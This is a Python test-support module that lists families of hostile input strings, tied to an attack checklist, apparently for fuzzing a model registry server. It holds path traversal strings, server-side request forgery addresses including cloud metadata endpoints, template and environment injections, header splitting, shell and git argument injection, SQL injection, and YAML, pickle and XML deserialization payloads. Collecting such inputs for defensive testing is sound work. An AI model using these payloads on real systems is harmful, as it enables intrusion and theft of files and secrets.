"""Texts that fooled other registries and servers, in the families of a checklist of attacks.

A family's ``stands_for`` names the attacks (A1 to A60) that its texts try. What only a running
trial knows is written ``@LIKE@``: see ``Canaries`` in support/canaries.py.
"""

from typing import Final, NamedTuple

from support.hostile import TEXTS

PRODUCT: Final = 913_397 * 77_773_331
"""What a template engine makes of SUM: whoever shows it has carried out a text."""
_SUM: Final = "913397*77773331"
INJECTED: Final = "x-injected"
"""The header that texts with line ends in them try to add."""


class Family(NamedTuple):
    """Texts of one kind, and which attacks they stand for."""

    stands_for: str
    texts: tuple[str, ...]


_UP: Final = (
    "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..%252f", "%252e%252e%252f",
    "....//", "..../", "..;/", "..%c0%af", "%c0%ae%c0%ae/", "%uff0e%uff0e/", "..%00/", "/%2e/../",
    "\uff0e\uff0e/", "\u2025/", "..\u2215", ".\u200b./",
)  # fmt: skip
_PATHS: Final = (
    *(up * 12 + "@DOWN@" for up in _UP),
    *("../" * far + "@NAME@" for far in (1, 2, 3)),
    *("@FILE@", "/@FILE@", "//localhost@FILE@", "a/../../../@NAME@", "model.bin/../@NAME@"),
    *("./@FILE@", "~/@NAME@", "~root/.bashrc", "/proc/self/environ", "/proc/self/fd/3"),
    *("/etc/passwd", "/dev/stdin", "C:\\Windows\\win.ini", "\\\\@HOST@\\share\\x", "\\\\?\\C:\\x"),
    *(".git/config", ".git/hooks/post-checkout", ".env", "registry.db", "../state/registry.db"),
    *("@FILE@/", "@FILE@/.", "@FILE@::$DATA", "@FILE@%00.txt", "on-the-way/../@NAME@"),
)
_URIS: Final = (
    *("file:@FILE@", "file://@FILE@", "file:///@DOWN@", "file://localhost@FILE@", "FILE:@FILE@"),
    *("file:%2f%2f@FILE@", "file:./@NAME@", "local:@FILE@", "path:@FILE@", "jar:file:@FILE@!/a"),
    *("runs:/0/../../@DOWN@", "runs:/@FILE@", "models:/kite/../../@DOWN@", "models:/kite@hero"),
    *("mlflow-artifacts:/../../@DOWN@", "dbfs:@FILE@", "s3://bucket/../../x", "gs://b/@FILE@"),
    *("hdfs://@HOST@/x", "sqlite:///@FILE@", "sqlite:////@DOWN@?mode=ro", "git+file://@FILE@"),
    *("data:text/plain;base64,QQ==", "php://filter/resource=@FILE@", "zip://@FILE@#x", "urn:x"),
    *("#@FILE@", "?@FILE@", ";@FILE@", "kite#@FILE@", "kite?path=@FILE@", "kite;a=@FILE@"),
    *("//@FILE@", ":@FILE@", "kite@1/../@NAME@", "sha256:../../@DOWN@", "run:../../@NAME@"),
    *("data.csv@../../@NAME@", "data.csv@md5:../x", "md5:../../@DOWN@", "%66ile:@FILE@"),
)
ADDRESSES: Final = (
    *("http://@HOST@/", "https://@HOST@/", "HTTP://@HOST@/", "//@HOST@/", "///@HOST@/"),
    *("http:@HOST@/", "http:/@HOST@/", "http:\\\\@HOST@\\", "http://localhost:@PORT@/"),
    *("http://127.1:@PORT@/", "http://127.0.1:@PORT@/", "http://0:@PORT@/"),
    *("http://2130706433:@PORT@/", "http://0x7f000001:@PORT@/", "http://0x7f.1:@PORT@/"),
    *("http://0177.0.0.1:@PORT@/", "http://017700000001:@PORT@/", "http://0.0.0.0:@PORT@/"),
    *("http://[::1]:@PORT@/", "http://[::]:@PORT@/", "http://[::ffff:127.0.0.1]:@PORT@/"),
    *("http://[::ffff:7f00:1]:@PORT@/", "http://[0:0:0:0:0:0:0:1]:@PORT@/"),
    *("http://example.org@@HOST@/", "http://@HOST@#@example.org/", "http://@HOST@%23@a.org/"),
    *("http://example.org\\@@HOST@/", "http://a:b@@HOST@/c?d#e", "http://@HOST@%2f@a.org/"),
    *("http://\u2460\u2461\u2466.0.0.1:@PORT@/", "http://127\u30020\u30020\u30021:@PORT@/"),
    *("http://localtest.me:@PORT@/", "http://127.0.0.1.nip.io:@PORT@/"),
    *("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/"),
    *("gopher://@HOST@/_x", "ftp://@HOST@/x", "dict://@HOST@/d", "ldap://@HOST@/x"),
    *("redis://@HOST@/0", "postgresql://a:b@@HOST@/c", "s3://@HOST@/bucket", "tcp://@HOST@"),
    *("git://@HOST@/a.git", "ssh://git@@HOST@/a.git", "ws://@HOST@/", "smb://@HOST@/share"),
)
"""Addresses that all lead to this machine, to a listener that nobody may ask, or to a neighbour."""
_EXPANSIONS: Final = (
    *("$@ENV@", "${@ENV@}", "%@ENV@%", "{@ENV@}", "${env:@ENV@}", "${oc.env:@ENV@}", "!ENV @ENV@"),
    *("%(@ENV@)s", "$(printenv @ENV@)", "`printenv @ENV@`", "{{ env['@ENV@'] }}", "$ENV{@ENV@}"),
    *(f"{{{{{_SUM}}}}}", f"${{{_SUM}}}", f"#{{{_SUM}}}", f"<%= {_SUM} %>", f"{{%print({_SUM})%}}"),
    *(f"*{{{_SUM}}}", f"@({_SUM})", f"[[${{{_SUM}}}]]", f"{{{{={_SUM}}}}}", f"{{{_SUM}}}"),
    *("{0.__class__.__init__.__globals__}", "{self.registry.settings}", "{settings.token}"),
    *("{{config}}", "{{request.app.state.callers.config}}", "{{ caller }}", "{{ registry }}"),
    "{{ cycler.__init__.__globals__.os.environ }}",
    *("{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '@FILE@' %}"),
    *("{% import '@FILE@' as x %}", "${jndi:ldap://@HOST@/a}", "__import__('os').environ"),
)
_HEADERS: Final = (
    *("x\r\nX-Injected: 1", "x\nX-Injected: 1", "x\rX-Injected: 1", "x\r\n X-Injected: 1"),
    *("%0d%0aX-Injected:%201", "%250d%250aX-Injected:1", "\u560a\u560dX-Injected: 1"),
    *("x\u2028X-Injected: 1", "x\u0085X-Injected: 1", "\r\nSet-Cookie: registry_session=x"),
    *("x\r\nContent-Type: text/html\r\n\r\n<script>1</script>", 'x"; filename="a.html'),
    "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: 1\r\n\r\n",
    *("x\"; filename*=UTF-8''a.html", '"x", *, W/"y"', '*, "', "text/html; charset=x-injected"),
    *('<//@HOST@/>; rel="next"', 'x>; rel="next", <//@HOST@/>; rel="next"', "bytes=0-,0-,0-"),
)
_COMMANDS: Final = (
    *("; touch @NEW@", "| touch @NEW@", "&& touch @NEW@", "& touch @NEW@ &", "$(touch @NEW@)"),
    *("`touch @NEW@`", "\ntouch @NEW@\n", "'; touch @NEW@; '", '"; touch @NEW@; "', "> @NEW@"),
    *("a;touch${IFS}@NEW@", "kite@1;touch @NEW@", "x' -o @NEW@ '", "\\`touch @NEW@\\`"),
    *("--output=@NEW@", "-O@NEW@", "--upload-pack=touch @NEW@", "--exec=touch @NEW@"),
    *("-c", "-ccore.sshCommand=touch @NEW@", "--config-env=core.pager=@ENV@", "--open-files-in-"),
    *("--help", "--version", "-", "--", "--all", "--stdin", "--end-of-options", "--git-dir=@FILE@"),
    *("--template=@FILE@", "--no-index", "--exec-path=@NEW@", "--receive-pack=touch @NEW@"),
    *("ext::sh -c touch% @NEW@", "ssh://-oProxyCommand=touch @NEW@/x", "-oProxyCommand=touch x"),
    *(
        "HEAD",
        "HEAD^{tree}",
        "HEAD:params.yaml",
        "main..HEAD",
        "@{-1}",
        "@{u}",
        ":/change",
        "a.lock",
    ),
    *("refs/heads/main", "kite\nHEAD", "x\ndone\n", "data 3\nabc\n", "refs/registry/log", "^HEAD"),
    "commit refs/heads/main\nauthor a <a> 0 +0000\ndata 0\n",
)
_QUERIES: Final = (
    *("' OR '1'='1", '" OR ""="', "') OR ('1'='1", "1) OR (1=1", "kite' --", "kite'/*", "x;--"),
    *("'; DROP TABLE version;--", "' UNION SELECT sha256 FROM token--", "\\' OR 1=1--", "''''"),
    *("' || (SELECT sha256 FROM token) || '", "(SELECT sql FROM sqlite_master)", "%", "_", "%' --"),
    *("ATTACH DATABASE '@NEW@' AS x", "load_extension('@FILE@')", "readfile('@FILE@')"),
    *(
        "pg_read_file('@FILE@')",
        "COPY (SELECT 1) TO '@NEW@'",
        "VACUUM INTO '@NEW@'",
        "randomblob(1)",
    ),
    *("name = 'x' OR 1 = 1", "number > 0 or number < 0 union select 1", "tags.\"a' OR 1=1\" = 'x'"),
    *("metrics.auc desc; select 1", "metrics.auc desc, (select 1)", "order by 1", "number asc --"),
    *(
        "number > 0 and (((",
        "(" * 2000,
        "not " * 500 + "number = 1",
        "a = 'x' and " * 400 + "a = 1",
    ),
    *("owner ~ '(a+)+$'", "name = '" + "a" * 9000 + "'", "name like '%%%%%%%%'", "1e999 < number"),
    *("number in (" + ",".join("1" * 900) + ")", "0x27", "CHAR(39)", "pg_sleep(9)", "NULL", "$1"),
    *("?", ":name", "%s", "{$ne: null}", "[$regex]=.*", "metrics.'auc' = 1", "number = 1; --"),
)
_DOCUMENTS: Final = (
    "!!python/object/apply:os.system ['touch @NEW@']",
    "!!python/object/new:os.system ['touch @NEW@']",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch @NEW@']",
    *(
        "&a [*a, *a]",
        "<<: *a",
        "key: value\nother: !!binary x",
        "- &a [x]\n- &b [*a, *a]\n- [*b, *b]",
    ),
    *('{"py/object": "os.system"}', '{"__class__": "os"}', '{"$ref": "http://@HOST@/s.json"}'),
    *('{"$ref": "file://@FILE@"}', "http://@HOST@/s.json#/a", "file://@FILE@#/a", "#/$defs/none"),
    *("#", "(a+)+$", "(?:a|a)*$", "(?#", "[[:alpha:]", '{"a": 1, "a": 2}', '{"a": NaN}', "[" * 900),
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://@FILE@">]><x>&a;</x>',
    '<!DOCTYPE x SYSTEM "http://@HOST@/x.dtd"><x/>',
    *(
        "cos\nsystem\n(S'touch @NEW@'\ntR.",
        "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg==",
        "rO0ABXNy",
    ),
    *(
        'O:8:"stdClass":0:{}',
        "\ufeff{}",
        "=cmd|' /C touch @NEW@'!A0",
        '=HYPERLINK("http://@HOST@")',
    ),
    *(
        "mlflow.prompt.is_prompt",
        "runId",
        "_method=DELETE",
        '{"actor": "root"}',
        "trusted: [os.system]",
    ),
)
_TWINS: Final = (
    *(
        "Kite",
        "KITE",
        "k\u0131te",
        "k\u0456te",
        "\u212aite",
        "\u24dakite",
        "\uff4b\uff49\uff54\uff45",
    ),
    *("kite\u200b", "kite\u00ad", "kite\u200d", "\ufeffkite", "kite\u202e", "\u202etik", "kite "),
    *(
        " kite",
        "kite.",
        "kite\u00a0",
        "kit\u0065\u0301",
        "kit\u00e9",
        "k%69te",
        "k%2569te",
        "kite%20",
    ),
    *(
        "\ufb01le",
        "\u00df",
        "\u0130",
        "kite\u2044x",
        "kite\u2215x",
        "ki\u0338te",
        "\U0001f468\u200d",
    ),
    *(
        "\uff21\uff24\uff2d\uff29\uff2e",
        "\u043elga",
        "OLGA",
        "olga\u200b",
        "\u1d52lga",
        "ad\u0131n",
    ),
)
_CONTROLS: Final = (
    *(
        "\0",
        "kite\0",
        "kite\0.txt",
        "kite%00",
        "\x01",
        "\x07",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1b[31mred",
    ),
    *("\x1b]0;title\x07", "\x7f", "\x80", "\x85", "\x9f", "\ud800", "a\udfffb", "\ufffe", "\uffff"),
    *("\U0010ffff", "\n", "\r", "\t", "\r\n", "a\nb", "\u2028", "\u2029", "%", "%%", "%0", "%zz"),
    *(
        "%u0041",
        "%ED%A0%80",
        "%C0%80",
        "%FF",
        "\\",
        "\\u0000",
        "\\x00",
        "\\\\",
        '"',
        "'",
        "`",
        "''",
    ),
    *(
        "",
        " ",
        ".",
        "..",
        "/",
        "//",
        "*",
        "~",
        "&",
        "=",
        "+",
        ",",
        "&amp;",
        "a&b=c",
        "a=b;c",
        "#",
        "?",
    ),
)
_HUGE: Final = (
    *("a" * 101, "a" * 201, "a" * 1001, "a" * 5001, "a" * 10_001, "a" * 60_000, "\u00e9" * 4000),
    *(
        "\U0001f600" * 2500,
        "a/" * 60,
        "a-" * 4000,
        "-" * 9000,
        " " * 9000,
        "a " * 4000,
        "\n" * 9000,
    ),
    *("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "0" * 5000, "9" * 400, "9" * 5000, "1" + "0" * 5000),
    *(
        "-1",
        "0",
        "-0",
        "1.0",
        "1_000",
        "\u0663",
        "0x10",
        "1e400",
        "-1e400",
        "1e-400",
        "NaN",
        "Infinity",
    ),
    *("2147483648", "9223372036854775807", "9223372036854775808", "18446744073709551616"),
    *("-9223372036854775809", "9007199254740993", "99999999999999999999999999999999999999"),
    *("9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"),
    *("0000-00-00", "-0001-01-01T00:00Z", "2026-01-01T00:00:00+99:99", "2026-02-30T00:00Z", "now"),
    *("2026-01-01", "2026-01-01T00:00", "99999-01-01T00:00Z", "1e10", "PT1S", "2026-01-01T24:00Z"),
)
_RESERVED: Final = (
    *("health", "ready", "metrics", "login", "logout", "static", "api", "v1", "do", "versions"),
    *(
        "latest",
        "production",
        "staging",
        "experiment",
        "archived",
        "champion",
        "default",
        "1",
        "007",
    ),
    *(
        "admin",
        "root",
        "server",
        "system",
        "anonymous",
        "nobody",
        "ada",
        "olga",
        "me",
        "*",
        "@",
        "null",
    ),
    *("None", "undefined", "true", "false", "nan", "con", "aux", "prn", "nul", "com1", "lpt1", "_"),
    *("__proto__", "constructor", "hasOwnProperty", "toString", "__class__", "id", "key", "rights"),
    *(
        ".git",
        ".registry",
        "index.lock",
        "FETCH_HEAD",
        "refs",
        "kite@latest@1",
        "kite@-1",
        "kite@0",
    ),
    *(
        "kite@1.0.0",
        "kite@v1.0.0",
        "kite@v1.0.0!",
        "@production",
        "run:",
        "sha256:",
        "kite#staging#1",
    ),
    *(
        "kite@production-eu",
        "kite@@1",
        "kite@",
        "team/kite@1",
        "/kite@1",
        "kite/@1",
        "00000000-0000",
    ),
)
FAMILIES: Final[dict[str, Family]] = {
    "paths": Family("A1 A5 A6 A7 A8 A10", _PATHS),
    "addresses of files": Family("A2 A3 A11", _URIS),
    "addresses of servers": Family("A12 A13 A14", ADDRESSES),
    "expansions": Family("A15 A49", _EXPANSIONS),
    "headers": Family("A7 A35", _HEADERS),
    "commands": Family("A46 A47 A48", _COMMANDS),
    "queries": Family("A23 A54", _QUERIES),
    "documents": Family("A4 A25 A40 A42 A45 A60", _DOCUMENTS),
    "twins of names": Family("A31", _TWINS),
    "control characters": Family("A2 A52", _CONTROLS),
    "huge": Family("A52 A54", _HUGE),
    "markup": Family("A34 A35 A39", TEXTS),
    "reserved names": Family("A18 A28 A33", _RESERVED),
}


def count() -> int:
    """Return how many different texts there are."""
    return len({text for family in FAMILIES.values() for text in family.texts})
